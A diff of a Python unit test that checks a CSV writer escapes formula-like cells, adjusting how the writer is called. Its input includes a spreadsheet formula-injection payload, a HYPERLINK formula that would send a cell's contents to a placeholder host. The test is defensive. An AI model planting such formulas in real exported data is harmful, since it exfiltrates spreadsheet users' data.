@@ -94,9 +94,8 @@ class TestForms:
 
     def test_a_spreadsheet_calculates_nothing_of_what_a_host_wrote(self, capsys: pytest.CaptureFixture[str]) -> None:
         reason = '=HYPERLINK("http://x/?"&A1, "a,b")\nsecond line'
-        listing._write_csv(
-            [{"reason": reason, "by": "@SUM(1)", "down": -5, "plain": "a=b", "diff": ["=1"], "none": None}]
-        )
+        document = {"reason": reason, "by": "@SUM(1)", "down": -5, "plain": "a=b", "diff": ["=1"], "none": None}
+        listing._write_csv([document], list(document))
         (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
         assert row == {
             "reason": f"'{reason}", "by": "'@SUM(1)", "down": "-5", "plain": "a=b", "diff": '["=1"]', "none": ""
